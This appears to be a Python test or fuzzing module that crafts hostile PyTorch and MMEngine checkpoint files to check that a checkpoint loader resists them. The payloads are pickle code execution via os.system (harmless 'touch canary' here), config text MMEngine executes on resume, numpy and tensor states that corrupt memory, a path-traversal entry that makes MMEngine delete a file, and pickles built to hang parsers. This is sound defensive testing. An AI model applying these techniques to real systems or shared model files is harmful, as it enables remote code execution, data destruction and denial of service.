# Copyright (c) mmrdn contributors. All rights reserved.
"""Checkpoints that try to run code, to corrupt memory, to remove a file or to take for ever.

One function a kind. Each writes a file to ``path``. Code would make the file ``canary``; what would be removed is
``victim``. ``base`` is the content of a checkpoint of a training.
"""

import copy
import os
import pickle
import struct
from pathlib import Path

import numpy as np
import torch
from mmengine.logging import HistoryBuffer

from fuzz.crafting import Reduced, Storage, crafted_tensor, write_zip

CORE = np._core if hasattr(np, '_core') else np.core


def _touch(canary):
    return Reduced(os.system, f'touch {canary}')


def _text(text):
    """Instruction for a text."""
    return b'X' + struct.pack('<I', len(text.encode())) + text.encode()


def _name(module, name):
    """Instruction for a name."""
    return f'c{module}\n{name}\n'.encode()


# A tuple of two tuples of two tuples ..., and a list likewise: little to write, and for ever to hash, compare or print.
TUPLES = b')' + b'q\x00h\x00\x86' * 60
LISTS = b']q\x00' + b'0](h\x00h\x00eq\x00' * 60


def call(path, canary, victim, base):
    """A function of the system, in the zip format."""
    torch.save(dict(base, extra=_touch(canary)), path)


def call_in_weights(path, canary, victim, base):
    """The same in the place of a tensor."""
    name = next(iter(base['state_dict']))
    torch.save(dict(base, state_dict=dict(base['state_dict'], **{name: _touch(canary)})), path)


def call_in_old_format(path, canary, victim, base):
    """The same in the format of before torch 1.6."""
    torch.save(dict(base, extra=_touch(canary)), path, _use_new_zipfile_serialization=False)


def plain_pickle(path, canary, victim, base):
    """A pickle without a container."""
    Path(path).write_bytes(pickle.dumps(dict(extra=_touch(canary)), 2))


def method_by_name(path, canary, victim, base):
    """``getattr``, which checkpoints of a one-cycle schedule use."""
    torch.save(dict(base, extra=Reduced(Reduced(getattr, Path, 'touch'), Path(canary))), path)


def old_instruction(path, canary, victim, base):
    """INST, which calls what it names."""
    write_zip(path, b'(%sios\nsystem\n.' % _text(f'touch {canary}'))


def class_attribute(path, canary, victim, base):
    """BUILD, which sets attributes of a class that checkpoints may name."""
    name = _name(HistoryBuffer.__module__, HistoryBuffer.__name__)
    write_zip(path, name + b'N}' + _text('mean') + _text('touched') + b's\x86b.')


def config_text(path, canary, victim, base):
    """Text that MMEngine's runners run on resume."""
    meta = dict(base['meta'], config=f'import os\nos.system("touch {canary}")\n')
    torch.save(dict(base, meta=meta), path)


def inferencer_text(path, canary, victim, base):
    """Text that MMEngine's inferencers run."""
    text = f'import os\nos.system("touch {canary}")\n'
    hub = copy.deepcopy(base['message_hub'])
    hub['runtime_info']['cfg'] = text
    torch.save(dict(base, meta=dict(base['meta'], cfg=text), message_hub=hub), path)


def array_of_pointers(path, canary, victim, base):
    """A data type of numbers whose state says that they are objects."""
    state = (3, '<', (np.dtype('O'), (1,)), None, None, -1, -1, 0)
    kind = Reduced(np.dtype, 'f8', False, True, state=state)
    array = Reduced(CORE.multiarray._reconstruct, np.ndarray, (0,), b'b', state=(1, (4,), kind, False, b'A' * 32))
    torch.save(dict(base, extra=array), path)


def scalar_of_pointers(path, canary, victim, base):
    """The same in a scalar, where MMEngine compares it."""
    state = (3, '<', (np.dtype('O'), (1,)), None, None, -1, -1, 0)
    scalar = Reduced(CORE.multiarray.scalar, Reduced(np.dtype, 'f8', False, True, state=state), b'A' * 8)
    hub = copy.deepcopy(base['message_hub'])
    hub['runtime_info']['best_score'] = scalar
    torch.save(dict(base, message_hub=hub), path)


def storage_past_its_end(path, canary, victim, base):
    """A storage that claims more bytes than the file has for it."""
    tensor = crafted_tensor(Storage('0', 2**20), (2**20,), (1,))
    write_zip(path, dict(state_dict=dict(weight=tensor), meta={}), {'0': b'\0' * 4})


def tensor_past_its_end(path, canary, victim, base):
    """A tensor that claims more bytes than its storage has."""
    tensor = crafted_tensor(Storage('0', 4), (2**20,), (1,), offset=2**40)
    write_zip(path, dict(state_dict=dict(weight=tensor), meta={}), {'0': b'\0' * 16})


def indices_past_their_end(path, canary, victim, base):
    """A sparse tensor whose indices point elsewhere."""
    indices = crafted_tensor(Storage('0', 1, torch.LongStorage), (1, 1), (1, 1))
    values = crafted_tensor(Storage('1', 1), (1,), (1,))
    layout = Reduced(torch.serialization._get_layout, 'torch.sparse_coo')
    tensor = Reduced(torch._utils._rebuild_sparse_tensor, layout, (indices, values, torch.Size([3])))
    content = dict(state_dict=dict(weight=tensor), meta={})
    write_zip(path, content, {'0': (2**40).to_bytes(8, 'little'), '1': b'\0' * 4})


def best_checkpoint(path, canary, victim, base):
    """A file that MMEngine removes at the next better score."""
    hub = copy.deepcopy(base['message_hub'])
    hub['runtime_info'].update(best_ckpt=str(victim), best_score=-1.0)
    hub['resumed_keys'].update(best_ckpt=True, best_score=True)
    torch.save(dict(base, message_hub=hub), path)


def old_checkpoints(path, canary, victim, base):
    """Files that MMEngine removes as more than ``max_keep_ckpts``."""
    hub = copy.deepcopy(base['message_hub'])
    victim = Path(victim)
    hub['runtime_info']['keep_ckpt_ids'] = [f'x/../../{victim.stem}', 1, 2, 3]
    hub['resumed_keys']['keep_ckpt_ids'] = True
    torch.save(dict(base, message_hub=hub), path)


def endless_key_of_a_counter(path, canary, victim, base):
    """Pairs that a Counter is made of, whose keys are hashed."""
    write_zip(path, b'}' + _text('a') + _name('collections', 'Counter') + b']' + TUPLES + b'K\x01\x86a\x85Rs.')


def endless_data_type(path, canary, victim, base):
    """A name of a data type that is looked up."""
    write_zip(path, _name('numpy', 'dtype') + TUPLES + b'\x85R.')


def endless_attribute(path, canary, victim, base):
    """A name of an attribute that is printed."""
    write_zip(path, _name('builtins', 'getattr') + _name('os', 'system') + LISTS + b'\x86R.')


def endless_tensor_type(path, canary, victim, base):
    """A data type of a tensor that is printed."""
    write_zip(path, _name('torch._utils', '_rebuild_tensor_v3') + b'(NNNNNN' + LISTS + b'NtR.')


def endless_storage_keys(path, canary, victim, base):
    """Storages of the old format that are sorted."""
    head = [pickle.dumps(value, 2) for value in (0x1950A86A20F9469CFC6C, 1001, dict(little_endian=True), None)]
    Path(path).write_bytes(b''.join(head) + b'\x80\x02](' + TUPLES + TUPLES.replace(b'\x00', b'\x01') + b'e.')


def chain_of_attributes(path, canary, victim, base):
    """Attributes of attributes, whose names grow with each."""
    name, num = _text('n' * 2**20) + b'q\x050', 20000
    chain = _name('builtins', 'getattr') + b'q\x060' + b'h\x06' * num + _name('os', 'x') + b'h\x05\x86R' * num
    write_zip(path, name + chain + b'.')


def colliding_memo(path, canary, victim, base):
    """Places of the memo that have the same hash: those of protocol 0 may be any integers."""
    write_zip(path, b'N' + b''.join(b'p%d\n' % (i * (2**61 - 1)) for i in range(200000)) + b'.')


def text_that_many_copy(path, canary, victim, base):
    """A text of a megabyte that each of many calls encodes."""
    head = _text('n' * 2**20) + b'q\x050' + _name('_codecs', 'encode') + b'q\x060' + _text('latin1') + b'q\x070'
    write_zip(path, head + b'](' + b'h\x06h\x05h\x07\x86R' * 20000 + b'e.')


def shape_without_end(path, canary, victim, base):
    """A numpy array of many dimensions, whose product is as long."""
    state = b'(K\x01(' + b'J\xff\xff\xff\x7f' * 60000 + b't' + _name('numpy', 'dtype') + _text('f8') + b'\x85R'
    state += b'(K\x03' + _text('<') + b'NNNtb\x89C\x01at'
    write_zip(path, _name('numpy._core.multiarray', '_reconstruct') + b')R' + state + b'b.')


KINDS = (
    call,
    call_in_weights,
    call_in_old_format,
    plain_pickle,
    method_by_name,
    old_instruction,
    class_attribute,
    config_text,
    inferencer_text,
    array_of_pointers,
    scalar_of_pointers,
    storage_past_its_end,
    tensor_past_its_end,
    indices_past_their_end,
    best_checkpoint,
    old_checkpoints,
    endless_key_of_a_counter,
    endless_data_type,
    endless_attribute,
    endless_tensor_type,
    endless_storage_keys,
    chain_of_attributes,
    colliding_memo,
    text_that_many_copy,
    shape_without_end,
)
# Good checkpoints for what does not read the hostile part, which is left out or refused elsewhere.
USABLE = (config_text, inferencer_text, best_checkpoint, old_checkpoints)
